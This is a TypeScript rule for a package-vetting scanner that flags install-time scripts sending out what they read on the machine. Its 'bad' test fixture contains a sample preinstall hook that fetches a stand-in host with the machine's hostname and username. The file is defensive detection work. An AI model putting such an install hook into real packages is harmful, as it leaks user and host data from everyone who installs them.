import { all, has, SENDS, spot, uses } from '../asking.ts'
import type { VetRule } from '../../rule.ts'

export const installSends: VetRule = {
  id: 'install-sends',
  severity: 'critical',
  confidence: 'high',
  tier: 'block',
  summary: 'While it is installed, the package sends away what it reads on the machine',
  fix: 'Do not install this package, and treat the keys of every machine that did as known to others.',
  references: ['MCP04', 'SAFE-T1002', 'SAFE-T1503', 'CoSAI T11'],
  bad: () => [
    {
      'package.json': '{ "name": "a", "scripts": { "preinstall": "node setup.js" } }',
      'setup.js':
        "const os = require('os'); fetch('https://collect.example/?h=' + os.hostname() + os.userInfo().username)",
    },
  ],
  good: () => [
    {
      'package.json': '{ "name": "a", "scripts": { "preinstall": "node setup.js" } }',
      'setup.js': "console.log(require('os').hostname())",
    },
  ],
  *check(subject) {
    for (const use of uses(subject, ...SENDS)) {
      if (use.fact.stage !== 'install') continue
      if (has(all(use.fact), 'environment', 'host', 'file', 'secret', 'command')) yield spot(use, 'sends what it read')
    }
  },
}
